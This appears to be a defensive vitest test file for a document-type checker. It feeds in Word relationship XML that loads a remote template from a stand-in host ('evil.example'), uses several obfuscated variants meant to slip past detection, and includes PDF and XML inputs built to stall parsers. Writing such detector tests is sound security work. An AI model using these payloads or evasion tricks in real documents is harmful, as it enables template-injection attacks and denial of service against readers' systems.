import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startCpuTime } from '#testing/cpu-time.ts'
import { wordWith } from '#testing/documents/hostile-documents.ts'
import { judgeDocument } from './document-type.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'vouch-hiding-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** Returns the kind of document detected, or the text of the rejection. */
async function judge(content: Buffer): Promise<string> {
  const path = join(folder, 'file')
  await writeFile(path, content)
  return judgeDocument({ path, bytes: content.length }, ['pdf', 'docx']).catch(
    (error: Error) => error.message,
  )
}

const relations = (content: string) => wordWith('word/_rels/settings.xml.rels', content)

describe('a remote template', () => {
  const type = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
  const target = 'Target="http://evil.example/t.dotm"'
  const mode = 'TargetMode="External"'
  test.each([
    ['after a quoted angle bracket', `<Relationship Id=">" ${type} ${target} ${mode}/>`],
    [
      'with a character reference in its mode',
      `<Relationship ${type} ${target} TargetMode="Ext&#101;rnal"/>`,
    ],
    [
      'with leading zeros in a character reference',
      `<Relationship ${type} Target="&#x0000000068;ttp://evil.example" ${mode}/>`,
    ],
    ['with a long namespace prefix', `<a-b:Relationship ${type} ${target} ${mode}></a-b:Relationship>`],
    ['with a second, prefixed type', `<Relationship x:Type="a/hyperlink" ${type} ${target} ${mode}/>`],
    [
      'with a second, prefixed target',
      `<Relationship x:Target="file:///C:/t.dotx" ${type} ${target} ${mode}/>`,
    ],
    ['with single quotes', `<Relationship\n${type}\t${target} TargetMode = 'External' />`],
  ])('is detected %s', async (_, tag) => {
    const content = `<Relationships>${tag}</Relationships>`
    expect(await judge(relations(content))).toMatch(/^This Word document loads content/)
  })
})

describe('parsing takes limited time', () => {
  // With quadratic parsing, each of these files took minutes.
  const mib = 2 ** 20
  const filled = (filler: string, bytes: number) => Buffer.alloc(bytes, filler).toString('latin1')
  const pdf = (...parts: (string | Buffer)[]) =>
    Buffer.concat(['%PDF-1.7\nstartxref\n', ...parts].map((part) => Buffer.from(part as string)))
  const packed = (content: Buffer) =>
    pdf('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n', deflateSync(content), '\nendstream')

  test.each([
    ['unclosed relationships', relations(filled('<Relationship ', mib))],
    ['unclosed quotes', relations(`<Relationship ${filled('"', mib - 20)}`)],
    ['a relationship with endless words', relations(`<Relationship ${filled('a ', mib - 20)}>`)],
    ['a relationship with one endless word', relations(`<Relationship ${filled('a', mib - 20)}>`)],
    [
      'unclosed object streams',
      pdf('1 0 obj<</Type/ObjStm>>stream\n'.repeat(19_000), Buffer.alloc(9 * mib, 'a ')),
    ],
    ['escaped names before streams', pdf(`stream\n${'#41'.repeat(160)}`.repeat(19_000))],
    ['escaped names in an object stream', packed(Buffer.alloc(60 * mib, '#41'))],
  ])(
    'for %s',
    async (_, content) => {
      const cpuTime = startCpuTime()
      await judge(content)
      expect(cpuTime()).toBeLessThan(5_000)
    },
    120_000,
  )

  test('nested object streams are charged for every read', async () => {
    const head = Buffer.from(
      '1 0 obj<</Type/ObjStm/N 0/First 0/Filter/FlateDecode>>stream\n\x78\x9c',
      'latin1',
    )
    const size = head.length
    // Each uncompressed block hides the start of the next stream; 8 MB of empty blocks follow.
    const block = Buffer.concat([Buffer.from([0, size, 0, ~size & 0xff, 0xff]), head])
    const nothing = Buffer.alloc(8_000_000, Buffer.from([0, 0, 0, 0xff, 0xff]))
    const nested = (count: number) => pdf(head, ...Array<Buffer>(count - 1).fill(block), nothing)
    expect(await judge(nested(4))).toBe('pdf')
    expect(await judge(nested(12))).toMatch(/could not be checked/)
  })
})
